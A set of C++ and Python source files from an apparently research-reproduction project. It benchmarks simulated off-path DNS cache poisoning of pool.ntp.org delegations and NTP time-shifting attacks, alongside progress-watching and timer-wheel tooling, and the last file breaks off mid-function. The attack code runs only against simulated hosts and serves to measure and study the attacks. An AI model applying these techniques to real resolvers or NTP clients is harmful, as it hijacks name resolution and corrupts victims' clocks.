    # scanned set (members live in headers, iteration in .cpp files),
    # then per-file scanning.
    unordered_names = collect_unordered_names(files)
    findings: list[Finding] = []
    for f in files:
        findings.extend(scan_file(f, unordered_names))

    for finding in findings:
        print(finding)
    if findings:
        print(f"\nlint_determinism: {len(findings)} finding(s) in "
              f"{len(files)} files", file=sys.stderr)
        return 1
    print(f"lint_determinism: clean ({len(files)} files)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
