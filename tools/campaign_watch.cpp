// campaign_watch: tail the JSON Lines stream a campaign writes with
// `--progress FILE` and render a live per-scenario table — trials done,
// success rate with its 95% Wilson interval, and the campaign-level ETA.
//
// The stream is append-only and line-framed, so watching is a plain
// follow-the-tail loop: read new complete lines, fold them into
// per-scenario state, redraw. Partial lines (a writer mid-fprintf) stay
// buffered until their newline arrives.
//
// Usage:
//   campaign_watch FILE [--once] [--interval MS]
//
//   FILE           the --progress file of a running (or finished) campaign
//   --once         render the current state once and exit (CI / scripting)
//   --interval MS  poll interval in follow mode (default 500)
//
// Follow mode exits on its own when the stream reports the campaign
// complete (campaign_done == campaign_total).
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

struct ScenarioRow {
  std::string name;
  unsigned long long done = 0;
  unsigned long long trials = 0;
  unsigned long long successes = 0;
  double rate = 0.0;
  // Default CI is the vacuous [0, 1] ("no information"), matching
  // wilson_interval(0, 0): a row must never render a confident [0, 0]
  // before its wilson fields have actually been parsed.
  double wilson_low = 0.0;
  double wilson_high = 1.0;
};

struct WatchState {
  std::vector<ScenarioRow> rows;  // insertion order = first-seen order
  unsigned long long campaign_done = 0;
  unsigned long long campaign_total = 0;
  double elapsed_s = 0.0;
  double eta_s = 0.0;
  unsigned long long lines = 0;
  unsigned long long bad_lines = 0;
};

/// Extract `"key":<number>` from a progress line. Returns false when the
/// key is absent or its value is not a number (e.g. `null` for a non-finite
/// double) — strtod parsing nothing must not turn into a confident 0.
bool find_number(const std::string& line, const char* key, double& out) {
  const std::string needle = std::string("\"") + key + "\":";
  const std::size_t pos = line.find(needle);
  if (pos == std::string::npos) return false;
  const char* start = line.c_str() + pos + needle.size();
  char* end = nullptr;
  const double v = std::strtod(start, &end);
  if (end == start) return false;
  out = v;
  return true;
}

bool find_u64(const std::string& line, const char* key,
              unsigned long long& out) {
  double v = 0.0;
  if (!find_number(line, key, v) || v < 0) return false;
  out = static_cast<unsigned long long>(v);
  return true;
}

/// Extract the scenario name. Progress lines put it first and our writer
/// escapes quotes/backslashes; un-escape just those (scenario names are
/// plain identifiers in practice).
bool find_scenario(const std::string& line, std::string& out) {
  const char* needle = "\"scenario\":\"";
  std::size_t pos = line.find(needle);
  if (pos == std::string::npos) return false;
  pos += std::strlen(needle);
  out.clear();
  while (pos < line.size()) {
    const char c = line[pos++];
    if (c == '"') return true;
    if (c == '\\' && pos < line.size()) {
      out += line[pos++];
      continue;
    }
    out += c;
  }
  return false;
}

void fold_line(WatchState& state, const std::string& line) {
  state.lines++;
  ScenarioRow row;
  bool ok = find_scenario(line, row.name);
  ok = ok && find_u64(line, "done", row.done);
  ok = ok && find_u64(line, "trials", row.trials);
  ok = ok && find_u64(line, "successes", row.successes);
  ok = ok && find_number(line, "rate", row.rate);
  ok = ok && find_number(line, "wilson_low", row.wilson_low);
  ok = ok && find_number(line, "wilson_high", row.wilson_high);
  if (!ok) {
    state.bad_lines++;
    return;
  }
  // Campaign-level fields come from the newest line (they are cumulative).
  (void)find_u64(line, "campaign_done", state.campaign_done);
  (void)find_u64(line, "campaign_total", state.campaign_total);
  (void)find_number(line, "elapsed_s", state.elapsed_s);
  (void)find_number(line, "eta_s", state.eta_s);
  for (ScenarioRow& existing : state.rows) {
    if (existing.name == row.name) {
      existing = std::move(row);
      return;
    }
  }
  state.rows.push_back(std::move(row));
}

void render(const WatchState& state, bool clear) {
  std::string out;
  if (clear) out += "\x1b[H\x1b[J";  // cursor home + clear to end
  char line[256];
  std::snprintf(line, sizeof line,
                "campaign: %llu/%llu trials  elapsed %.1f s  eta %.1f s\n",
                state.campaign_done, state.campaign_total, state.elapsed_s,
                state.eta_s);
  out += line;
  std::snprintf(line, sizeof line, "%-28s %9s %6s %7s  %s\n", "scenario",
                "done", "succ", "rate", "95% CI");
  out += line;
  for (const ScenarioRow& row : state.rows) {
    std::snprintf(line, sizeof line,
                  "%-28s %5llu/%-3llu %6llu %7.3f  [%.3f, %.3f]\n",
                  row.name.c_str(), row.done, row.trials, row.successes,
                  row.rate, row.wilson_low, row.wilson_high);
    out += line;
  }
  if (state.bad_lines > 0) {
    std::snprintf(line, sizeof line, "(%llu malformed lines ignored)\n",
                  state.bad_lines);
    out += line;
  }
  std::fwrite(out.data(), 1, out.size(), stdout);
  std::fflush(stdout);
}

}  // namespace

int main(int argc, char** argv) {
  std::string path;
  bool once = false;
  unsigned long long interval_ms = 500;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--once") == 0) {
      once = true;
      continue;
    }
    if (std::strcmp(arg, "--interval") == 0) {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s: flag '--interval' requires a value\n",
                     argv[0]);
        return 2;
      }
      char* end = nullptr;
      interval_ms = std::strtoull(argv[++i], &end, 10);
      if (end == nullptr || *end != '\0' || interval_ms == 0) {
        std::fprintf(stderr, "%s: invalid --interval value '%s'\n", argv[0],
                     argv[i]);
        return 2;
      }
      continue;
    }
    if (arg[0] == '-') {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], arg);
      std::fprintf(stderr,
                   "usage: %s FILE [--once] [--interval MS]\n", argv[0]);
      return 2;
    }
    if (!path.empty()) {
      std::fprintf(stderr, "%s: more than one file given\n", argv[0]);
      return 2;
    }
    path = arg;
  }
  if (path.empty()) {
    std::fprintf(stderr, "usage: %s FILE [--once] [--interval MS]\n",
                 argv[0]);
    return 2;
  }

  std::FILE* f = std::fopen(path.c_str(), "rb");
  if (f == nullptr) {
    std::fprintf(stderr, "%s: cannot open '%s' for reading\n", argv[0],
                 path.c_str());
    return 1;
  }

  WatchState state;
  std::string pending;  // bytes read but not yet newline-terminated
  char buf[4096];
  bool dirty = false;
  for (;;) {
    std::size_t n;
    while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) {
      pending.append(buf, n);
      dirty = true;
    }
    std::size_t start = 0;
    std::size_t nl;
    while ((nl = pending.find('\n', start)) != std::string::npos) {
      fold_line(state, pending.substr(start, nl - start));
      start = nl + 1;
    }
    pending.erase(0, start);

    if (once) {
      render(state, /*clear=*/false);
      return 0;
    }
    if (dirty) {
      render(state, /*clear=*/true);
      dirty = false;
    }
    if (state.campaign_total > 0 &&
        state.campaign_done >= state.campaign_total) {
      return 0;
    }
    std::clearerr(f);  // EOF is transient while the writer is live
    std::this_thread::sleep_for(std::chrono::milliseconds(interval_ms));
  }
}
