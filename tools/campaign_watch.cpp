// campaign_watch: tail the JSON Lines stream(s) a campaign writes with
// `--progress PATH` and render a live per-scenario table — trials done,
// success rate with its 95% Wilson interval, and the campaign-level ETA.
//
// PATH is a single file for one-process campaigns, or a directory for
// distributed ones (`--workers N`): each worker process appends to its
// own worker-<id>.jsonl and the coordinator to coordinator.jsonl, so no
// two writers ever interleave mid-line. The watcher discovers *.jsonl
// files on every poll tick (workers appear as they start), tails each at
// its own offset, and folds everything through ProgressMerger — per-
// scenario counts are summed across processes and the rate/CI recomputed,
// so the fleet view matches what a single process would have printed.
//
// Partial lines (a writer mid-fprintf, or a read racing a write) stay
// buffered per file until their newline arrives.
//
// Usage:
//   campaign_watch PATH [--once] [--interval MS]
//
//   PATH           the --progress file or directory of a campaign
//   --once         render the current state once and exit (CI / scripting)
//   --interval MS  poll interval in follow mode (default 500)
//
// Follow mode exits on its own when the stream reports the campaign
// complete (campaign_done == campaign_total).
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <string>
#include <thread>
#include <vector>

#include "campaign/progress_merge.h"

namespace {

using dnstime::campaign::ProgressMerger;

/// One tailed stream: an open handle plus the stable id ProgressMerger
/// keys its per-file carry buffer and counters by.
struct Source {
  std::string path;
  std::FILE* file = nullptr;
  std::size_t id = 0;
};

/// Reads whatever bytes are newly available on `src` into the merger.
/// Returns true when anything arrived.
bool drain(Source& src, ProgressMerger& merger) {
  bool got = false;
  char buf[4096];
  std::size_t n;
  while ((n = std::fread(buf, 1, sizeof buf, src.file)) > 0) {
    merger.feed(src.id, buf, n);
    got = true;
  }
  std::clearerr(src.file);  // EOF is transient while the writer is live
  return got;
}

/// Discovers *.jsonl files under `dir` and opens any not yet tracked.
/// Discovery order (sorted paths) assigns ids, so a given run tails each
/// file under a stable id even as new workers appear.
void discover(const std::string& dir, std::vector<Source>& sources) {
  std::vector<std::string> found;
  std::error_code ec;
  for (const auto& entry : std::filesystem::directory_iterator(dir, ec)) {
    if (!entry.is_regular_file(ec)) continue;
    if (entry.path().extension() != ".jsonl") continue;
    found.push_back(entry.path().string());
  }
  std::sort(found.begin(), found.end());
  for (const std::string& path : found) {
    bool known = false;
    for (const Source& src : sources) {
      if (src.path == path) {
        known = true;
        break;
      }
    }
    if (known) continue;
    std::FILE* f = std::fopen(path.c_str(), "rb");
    if (f == nullptr) continue;  // racing the creator; retry next tick
    sources.push_back(Source{path, f, sources.size()});
  }
}

void render(const ProgressMerger::Snapshot& snap, bool clear) {
  std::string out;
  if (clear) out += "\x1b[H\x1b[J";  // cursor home + clear to end
  char line[256];
  std::snprintf(line, sizeof line,
                "campaign: %llu/%llu trials  elapsed %.1f s  eta %.1f s\n",
                static_cast<unsigned long long>(snap.campaign_done),
                static_cast<unsigned long long>(snap.campaign_total),
                snap.elapsed_s, snap.eta_s);
  out += line;
  std::snprintf(line, sizeof line, "%-28s %9s %6s %7s  %s\n", "scenario",
                "done", "succ", "rate", "95% CI");
  out += line;
  for (const ProgressMerger::MergedRow& row : snap.rows) {
    std::snprintf(line, sizeof line,
                  "%-28s %5llu/%-3llu %6llu %7.3f  [%.3f, %.3f]\n",
                  row.name.c_str(), static_cast<unsigned long long>(row.done),
                  static_cast<unsigned long long>(row.trials),
                  static_cast<unsigned long long>(row.successes), row.rate,
                  row.wilson_low, row.wilson_high);
    out += line;
  }
  if (snap.bad_lines > 0) {
    std::snprintf(line, sizeof line, "(%llu malformed lines ignored)\n",
                  static_cast<unsigned long long>(snap.bad_lines));
    out += line;
  }
  std::fwrite(out.data(), 1, out.size(), stdout);
  std::fflush(stdout);
}

}  // namespace

int main(int argc, char** argv) {
  std::string path;
  bool once = false;
  unsigned long long interval_ms = 500;

  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--once") == 0) {
      once = true;
      continue;
    }
    if (std::strcmp(arg, "--interval") == 0) {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "%s: flag '--interval' requires a value\n",
                     argv[0]);
        return 2;
      }
      char* end = nullptr;
      interval_ms = std::strtoull(argv[++i], &end, 10);
      if (end == nullptr || *end != '\0' || interval_ms == 0) {
        std::fprintf(stderr, "%s: invalid --interval value '%s'\n", argv[0],
                     argv[i]);
        return 2;
      }
      continue;
    }
    if (arg[0] == '-') {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], arg);
      std::fprintf(stderr, "usage: %s PATH [--once] [--interval MS]\n",
                   argv[0]);
      return 2;
    }
    if (!path.empty()) {
      std::fprintf(stderr, "%s: more than one path given\n", argv[0]);
      return 2;
    }
    path = arg;
  }
  if (path.empty()) {
    std::fprintf(stderr, "usage: %s PATH [--once] [--interval MS]\n",
                 argv[0]);
    return 2;
  }

  std::error_code ec;
  const bool dir_mode = std::filesystem::is_directory(path, ec);
  std::vector<Source> sources;
  if (!dir_mode) {
    std::FILE* f = std::fopen(path.c_str(), "rb");
    if (f == nullptr) {
      std::fprintf(stderr, "%s: cannot open '%s' for reading\n", argv[0],
                   path.c_str());
      return 1;
    }
    sources.push_back(Source{path, f, 0});
  }

  ProgressMerger merger;
  bool dirty = false;
  for (;;) {
    if (dir_mode) discover(path, sources);
    for (Source& src : sources) {
      if (drain(src, merger)) dirty = true;
    }

    const ProgressMerger::Snapshot snap = merger.snapshot();
    if (once) {
      render(snap, /*clear=*/false);
      return 0;
    }
    if (dirty) {
      render(snap, /*clear=*/true);
      dirty = false;
    }
    if (snap.campaign_total > 0 && snap.campaign_done >= snap.campaign_total) {
      return 0;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(interval_ms));
  }
}
