// Shared formatting helpers for the reproduction benches: every bench
// prints the paper's reported value next to the measured one so the
// "shape" comparison is immediate.
#pragma once

#include <cstdio>
#include <string>

namespace dnstime::bench {

inline void header(const std::string& title) {
  std::printf("\n================================================================\n");
  std::printf("%s\n", title.c_str());
  std::printf("================================================================\n");
}

inline void row(const std::string& label, const std::string& paper,
                const std::string& measured) {
  std::printf("  %-44s paper: %-14s measured: %s\n", label.c_str(),
              paper.c_str(), measured.c_str());
}

inline std::string pct(double fraction, int decimals = 1) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.*f%%", decimals, fraction * 100.0);
  return buf;
}

inline std::string num(double v, int decimals = 1) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.*f", decimals, v);
  return buf;
}

inline std::string minutes(double seconds) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.0f min", seconds / 60.0);
  return buf;
}

}  // namespace dnstime::bench
