// Fig. 7: distribution of t_first - t_avg when querying open resolvers for
// pool.ntp.org IN NS — the timing side-channel the paper tried as a cache
// test for closed resolvers and abandoned ("no way to reasonably choose a
// value for T").
#include <cstdio>

#include "bench_util.h"
#include "measure/timing_probe.h"

int main() {
  using namespace dnstime;
  bench::header("Fig. 7 - latency difference t_first - t_avg (ms)");

  measure::TimingProbeConfig cfg;
  auto result = measure::run_timing_probe(cfg);

  std::printf("  %zu resolvers probed (%zu with the record cached)\n\n",
              result.probed, result.cached_truth);
  std::printf("%s", result.deltas.render(44).c_str());

  double acc = result.best_threshold_accuracy();
  std::printf(
      "\n  Best single-threshold classification accuracy: %.1f%%\n"
      "  (the paper's conclusion: RTT heterogeneity and parent-zone caching\n"
      "  drown the signal — there is no usable threshold T; perfect\n"
      "  separation would be 100%%, coin-flip 50%%)\n",
      acc * 100);
  return 0;
}
