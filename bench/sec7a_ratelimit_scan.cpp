// §VII-A: rate limiting of pool.ntp.org NTP servers — the 64-query/1 Hz
// scan with the first-half/second-half classification heuristic, plus the
// §IV-B2c configuration-interface exposure.
#include <cstdio>

#include "bench_util.h"
#include "measure/ratelimit_scanner.h"

int main() {
  using namespace dnstime;
  bench::header("Sec. VII-A - Rate limiting of pool.ntp.org NTP servers");

  measure::RateLimitScanConfig cfg;
  auto result = measure::scan_pool_rate_limiting(cfg);

  std::printf("  servers scanned: %zu (paper: 2432)\n\n", result.servers);
  bench::row("servers sending KoD", "33% (780)",
             bench::pct(result.kod_fraction()) + " (" +
                 std::to_string(result.kod_servers) + ")");
  bench::row("servers rate limiting (halves test)", "38% (904)",
             bench::pct(result.rate_limit_fraction()) + " (" +
                 std::to_string(result.rate_limiting_servers) + ")");
  bench::row("open config interface", "5.3%",
             bench::pct(result.open_config_fraction()));
  std::printf(
      "\n  Scan-vs-truth validation (planted population fractions):\n");
  bench::row("  truth: rate limiting", "-",
             std::to_string(result.truth_rate_limiting));
  bench::row("  truth: KoD", "-", std::to_string(result.truth_kod));
  bench::row("  truth: open config", "-",
             std::to_string(result.truth_open_config));
  std::printf(
      "\n  Shape: KoD count < rate-limit count ('not every server sends a\n"
      "  KoD message before rate-limiting the client').\n");
  return 0;
}
