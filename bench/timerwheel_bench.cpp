// Timer-wheel microbenchmark: sim::TimerWheel (hashed hierarchical wheel)
// versus sim::EventLoop (4-ary heap) on the population-world workload
// shapes — huge fleets of near-identical periodic poll timers — plus the
// shapes the heap is tuned for, so the crossover is visible:
//
//   poll_fleet      N self-rescheduling ~64 s poll timers (the
//                   ClientPopulation steady state); the wheel's O(1)
//                   placement vs the heap's O(log n) sift;
//   spread_burst    one-shot deadlines spread over an hour, schedule then
//                   drain;
//   cancel_churn    schedule + cancel churn (timeout-shaped).
//
// Results go to stdout and BENCH_timerwheel.json (CI uploads the JSON, so
// the events/sec trajectory is tracked per commit). Field names mirror
// BENCH_eventloop.json: "legacy" = the heap EventLoop, "new" = the wheel.
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "bench_util.h"
#include "common/rng.h"
#include "sim/event_loop.h"
#include "sim/timer_wheel.h"

namespace dnstime::bench {
namespace {

using sim::Duration;
using sim::Time;

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

/// The ClientPopulation steady state: `fleet` timers, all with poll-scale
/// periods on a whole-second grid, each rescheduling itself until the
/// shared fire budget is spent.
template <class Loop>
struct PollTimer {
  Loop& loop;
  u64& fired;
  u64 total_fires;
  Duration period;
  void tick() {
    if (++fired >= total_fires) return;
    loop.schedule_after(period, [this] { tick(); });
  }
};

template <class Loop>
u64 poll_fleet(u64 total_fires, u32 fleet) {
  Loop loop;
  u64 fired = 0;
  std::vector<PollTimer<Loop>> timers;
  timers.reserve(fleet);
  for (u32 i = 0; i < fleet; ++i) {
    // 64..79 s periods on a 1 s grid, staggered starts: dense cohorts at
    // equal timestamps, exactly like a population world.
    timers.push_back(PollTimer<Loop>{loop, fired, total_fires,
                                     Duration::seconds(64 + (i & 15))});
    loop.schedule_after(Duration::seconds(1 + (i % 64)),
                        [t = &timers.back()] { t->tick(); });
  }
  loop.run_all();
  return fired;
}

/// One-shot deadlines spread over an hour: schedule everything, drain.
template <class Loop>
u64 spread_burst(u64 total_events) {
  Loop loop;
  Rng rng(0x5eed);
  u64 fired = 0;
  constexpr u64 kBatch = 1u << 16;
  for (u64 done = 0; done < total_events;) {
    const u64 n = std::min(kBatch, total_events - done);
    for (u64 i = 0; i < n; ++i) {
      loop.schedule_after(
          Duration::millis(static_cast<i64>(rng.uniform(1, 3'600'000))),
          [&fired] { fired++; });
    }
    loop.run_all();
    done += n;
  }
  return fired;
}

/// Timeout shape: schedule a deadline per "query", cancel 7 of 8.
template <class Loop>
u64 cancel_churn(u64 total_events) {
  Loop loop;
  u64 fired = 0;
  constexpr u64 kBatch = 2048;
  for (u64 done = 0; done < total_events;) {
    const u64 n = std::min(kBatch, total_events - done);
    std::vector<decltype(loop.schedule_after(Duration{}, [] {}))> handles;
    handles.reserve(n);
    for (u64 i = 0; i < n; ++i) {
      handles.push_back(
          loop.schedule_after(Duration::seconds(2), [&fired] { fired++; }));
    }
    for (u64 i = 0; i < n; ++i) {
      if (i % 8 != 0) handles[i].cancel();
    }
    loop.run_all();
    done += n;
  }
  return fired;
}

struct WorkloadResult {
  std::string name;
  u64 events = 0;
  double legacy_s = 0.0;  ///< heap EventLoop
  double new_s = 0.0;     ///< TimerWheel
  [[nodiscard]] double legacy_eps() const {
    return static_cast<double>(events) / legacy_s;
  }
  [[nodiscard]] double new_eps() const {
    return static_cast<double>(events) / new_s;
  }
  [[nodiscard]] double speedup() const { return legacy_s / new_s; }
};

template <class Fn>
double timed(int repeat, Fn&& fn) {
  double best = 0.0;
  for (int i = 0; i < repeat; ++i) {
    auto start = std::chrono::steady_clock::now();
    fn();
    double s = seconds_since(start);
    if (i == 0 || s < best) best = s;
  }
  return best;
}

}  // namespace
}  // namespace dnstime::bench

int main(int argc, char** argv) {
  using namespace dnstime;
  using namespace dnstime::bench;

  u64 scale = 2'000'000;
  u32 fleet = 100'000;
  int repeat = 3;
  std::string out_path = "BENCH_timerwheel.json";
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--scale") == 0 && i + 1 < argc) {
      scale = std::strtoull(argv[++i], nullptr, 10);
    } else if (std::strcmp(argv[i], "--fleet") == 0 && i + 1 < argc) {
      fleet = static_cast<u32>(std::strtoul(argv[++i], nullptr, 10));
    } else if (std::strcmp(argv[i], "--repeat") == 0 && i + 1 < argc) {
      repeat = std::atoi(argv[++i]);
      if (repeat < 1) repeat = 1;
    } else if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
      out_path = argv[++i];
    } else {
      std::fprintf(stderr,
                   "usage: %s [--scale N] [--fleet N] [--repeat N] "
                   "[--out FILE]\n",
                   argv[0]);
      return 2;
    }
  }

  header("timer wheel vs event-loop heap: population timer workloads");

  std::vector<WorkloadResult> results;
  {
    WorkloadResult r{.name = "poll_fleet", .events = scale};
    r.legacy_s =
        timed(repeat, [&] { poll_fleet<sim::EventLoop>(scale, fleet); });
    r.new_s = timed(repeat, [&] { poll_fleet<sim::TimerWheel>(scale, fleet); });
    results.push_back(r);
  }
  {
    WorkloadResult r{.name = "spread_burst", .events = scale};
    r.legacy_s = timed(repeat, [&] { spread_burst<sim::EventLoop>(scale); });
    r.new_s = timed(repeat, [&] { spread_burst<sim::TimerWheel>(scale); });
    results.push_back(r);
  }
  {
    WorkloadResult r{.name = "cancel_churn", .events = scale};
    r.legacy_s = timed(repeat, [&] { cancel_churn<sim::EventLoop>(scale); });
    r.new_s = timed(repeat, [&] { cancel_churn<sim::TimerWheel>(scale); });
    results.push_back(r);
  }

  std::printf("  %-14s %12s %14s %14s %9s\n", "workload", "events",
              "heap ev/s", "wheel ev/s", "speedup");
  std::printf("  ");
  for (int i = 0; i < 66; ++i) std::printf("-");
  std::printf("\n");
  double speedup_product = 1.0;
  for (const WorkloadResult& r : results) {
    std::printf("  %-14s %12llu %14.0f %14.0f %8.2fx\n", r.name.c_str(),
                static_cast<unsigned long long>(r.events), r.legacy_eps(),
                r.new_eps(), r.speedup());
    speedup_product *= r.speedup();
  }
  const double geomean =
      std::pow(speedup_product, 1.0 / static_cast<double>(results.size()));
  std::printf("  geomean speedup: %.2fx\n", geomean);

  std::FILE* f = std::fopen(out_path.c_str(), "w");
  if (!f) {
    std::fprintf(stderr, "cannot write %s\n", out_path.c_str());
    return 1;
  }
  std::fprintf(f, "{\"bench\":\"timerwheel\",\"scale\":%llu,\"workloads\":[",
               static_cast<unsigned long long>(scale));
  double product = 1.0;
  for (std::size_t i = 0; i < results.size(); ++i) {
    const WorkloadResult& r = results[i];
    std::fprintf(f,
                 "%s{\"name\":\"%s\",\"events\":%llu,\"legacy_s\":%.4f,"
                 "\"new_s\":%.4f,\"legacy_events_per_sec\":%.0f,"
                 "\"new_events_per_sec\":%.0f,\"speedup\":%.3f}",
                 i ? "," : "", r.name.c_str(),
                 static_cast<unsigned long long>(r.events), r.legacy_s,
                 r.new_s, r.legacy_eps(), r.new_eps(), r.speedup());
    product *= r.speedup();
  }
  std::fprintf(f, "],\"geomean_speedup\":%.3f}\n",
               std::pow(product, 1.0 / static_cast<double>(results.size())));
  std::fclose(f);
  std::printf("  wrote %s\n", out_path.c_str());
  return 0;
}
