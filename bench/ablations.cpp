// Ablations over the design choices DESIGN.md calls out:
//  (1) reassembly timeout (Linux 30 s vs Windows 60/120 s) vs the
//      fragments needed per TTL window (§IV-A economics);
//  (2) IPID spray width vs nameserver background query rate (analytic
//      §III-2 model cross-checked against the simulated pipeline);
//  (3) Chronos injection size vs tolerable honest rounds (§VI-C);
//  (4) rate-limit probability p vs Table III vulnerability.
#include <cstdio>

#include "analysis/attack_model.h"
#include "analysis/probability.h"
#include "attack/chronos_attack.h"
#include "attack/query_trigger.h"
#include "bench_util.h"
#include "scenario/world.h"

namespace {

using namespace dnstime;
using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

/// Simulated hit rate: poison attempts that landed across repeated
/// trigger rounds, for a given spray width and background query load.
double simulated_hit_rate(std::size_t spray_width, double background_rate,
                          int rounds) {
  WorldConfig wc;
  wc.seed = 7 + spray_width;
  World world(wc);
  // Background load against the pool NS. The ticker owns itself via a
  // shared_ptr so it outlives this scope for the whole simulation.
  auto& chatty = world.add_host(Ipv4Addr{10, 99, 0, 1});
  if (background_rate > 0) {
    net::NetStack* cs = chatty.stack.get();
    Ipv4Addr ns = world.pool_ns_addr();
    auto interval = Duration::from_seconds_f(1.0 / background_rate);
    auto tick = std::make_shared<std::function<void()>>();
    *tick = [&world, cs, ns, interval, tick] {
      dns::DnsMessage q;
      q.id = cs->rng().next_u16();
      q.questions = {dns::DnsQuestion{
          dns::DnsName::from_string("pool.ntp.org"), dns::RrType::kA}};
      cs->send_udp(ns, cs->ephemeral_port(), kDnsPort, encode_dns(q));
      world.loop().schedule_after(interval, *tick);
    };
    (*tick)();
  }

  auto pc = world.default_poisoner_config();
  pc.spray_width = spray_width;
  attack::CachePoisoner poisoner(world.attacker(), pc);
  poisoner.start();
  world.run_for(Duration::seconds(20));

  int hits = 0;
  for (int r = 0; r < rounds; ++r) {
    attack::QueryTrigger::via_open_resolver(
        world.attacker(), world.resolver_addr(),
        dns::DnsName::from_string("pool.ntp.org"));
    world.run_for(Duration::seconds(5));
    if (world.delegation_hijacked()) {
      hits++;
      // Reset for the next round.
      world.resolver().cache().clear();
    }
    world.run_for(Duration::seconds(155));  // wait out the A TTL
  }
  return static_cast<double>(hits) / rounds;
}

}  // namespace

int main() {
  bench::header("Ablation 1 - reassembly timeout vs boot-time attack cost");
  std::printf("  %-28s %-22s %s\n", "victim OS model",
              "fragments / TTL window", "note");
  struct OsRow {
    const char* name;
    int timeout;
  };
  for (OsRow os : {OsRow{"Linux (30 s)", 30}, OsRow{"RFC 2460 (60 s)", 60},
                   OsRow{"Windows (120 s)", 120}}) {
    int frags = analysis::fragments_per_ttl_window(
        Duration::seconds(150), Duration::seconds(os.timeout));
    std::printf("  %-28s %-22d %s\n", os.name, frags,
                os.timeout == 30 ? "paper: 150/30 = 5" : "");
  }

  bench::header(
      "Ablation 2 - IPID spray width vs background rate (hit probability)");
  std::printf("  %-10s %-12s %-12s %-12s\n", "width", "bg rate/s",
              "analytic", "simulated");
  for (std::size_t width : {4u, 16u, 64u}) {
    for (double rate : {0.0, 1.0, 4.0}) {
      double analytic = analysis::spray_hit_probability(rate, 25.0, width);
      double sim_rate = simulated_hit_rate(width, rate, 6);
      std::printf("  %-10zu %-12.1f %-12.2f %-12.2f\n", width, rate, analytic,
                  sim_rate);
    }
  }
  std::printf(
      "  Shape: wider sprays win; fast-ticking counters need width to\n"
      "  match rate x replant-interval (64 = the Linux frag-cache cap).\n"
      "  The analytic column is an upper bound: it ignores the short\n"
      "  coverage hole around each cache-entry expiry (duplicate replants\n"
      "  inside the timeout window are no-ops), which the simulation pays.\n");

  bench::header(
      "Ablation 3 - Chronos injection size vs tolerable honest rounds");
  std::printf("  %-18s %s\n", "records injected", "attack survives N <=");
  for (std::size_t count : {89u, 60u, 40u, 20u, 8u, 4u}) {
    std::printf("  %-18zu %d\n", count,
                attack::ChronosAttack::max_tolerable_honest_rounds(count));
  }
  std::printf("  (89 records / N <= 11 is the paper's operating point)\n");

  bench::header("Ablation 4 - rate-limit prevalence p vs Table III P2(6,4)");
  std::printf("  %-8s %-10s\n", "p", "P2(6,4)");
  for (double p : {0.2, 0.38, 0.5, 0.7, 0.9}) {
    std::printf("  %-8.2f %-10.3f%s\n", p, analysis::p2(6, 4, p),
                p == 0.38 ? "   <- measured pool prevalence" : "");
  }
  return 0;
}
