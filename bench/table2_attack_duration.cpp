// Table II: run-time attack duration against different clients.
//
// Full off-path pipeline per scenario: fragmentation cache poisoning of
// the victim resolver's delegation, then rate-limit abuse to remove the
// victim's associations. The clock reports the moment it first carries
// the attacker's shift; duration is measured from attack start, as in the
// paper's lab runs.
//
// Absolute minutes depend on poll cadences (our clients poll at fixed
// 64 s / chrony backs off to 192 s); the paper's ordering — NTPd(P1)
// fastest, then NTPd(P2), chrony, openntpd (which must wait for a restart)
// — is the reproduced shape.
#include <cstdio>
#include <optional>

#include "attack/query_trigger.h"
#include "attack/run_time_attack.h"
#include "bench_util.h"
#include "ntp/clients/chrony.h"
#include "ntp/clients/ntpd.h"
#include "ntp/clients/openntpd.h"
#include "scenario/world.h"

namespace {

using namespace dnstime;
using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

const Ipv4Addr kVictim{10, 77, 0, 1};

void poison_via_fragments(World& world) {
  static std::vector<std::shared_ptr<attack::CachePoisoner>> keepalive;
  auto poisoner = std::make_shared<attack::CachePoisoner>(
      world.attacker(), world.default_poisoner_config());
  keepalive.push_back(poisoner);
  poisoner->start();
  world.run_for(Duration::seconds(20));
  attack::QueryTrigger::via_open_resolver(
      world.attacker(), world.resolver_addr(),
      dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(Duration::seconds(10));
}

/// Returns attack duration in seconds, or nullopt on failure.
std::optional<double> run_scenario(const std::string& label) {
  World world;
  auto& host = world.add_host(kVictim);
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();

  std::unique_ptr<ntp::NtpClientBase> client;
  std::unique_ptr<ntp::NtpServer> victim_server;
  if (label == "ntpd-p1" || label == "ntpd-p2") {
    auto ntpd = std::make_unique<ntp::NtpdClient>(*host.stack, host.clock,
                                                  cfg);
    victim_server = std::make_unique<ntp::NtpServer>(*host.stack, host.clock,
                                                     ntp::ServerConfig{});
    ntpd->attach_server(victim_server.get());
    client = std::move(ntpd);
  } else if (label == "chrony") {
    // chrony backs off its poll interval under persistent failure.
    cfg.poll_interval = Duration::seconds(192);
    client = std::make_unique<ntp::ChronyClient>(*host.stack, host.clock,
                                                 cfg);
  } else {
    client = std::make_unique<ntp::OpenntpdClient>(*host.stack, host.clock,
                                                   cfg);
  }
  client->start();
  world.run_for(Duration::minutes(12));
  if (host.clock.offset() < -1.0) return std::nullopt;  // must be honest

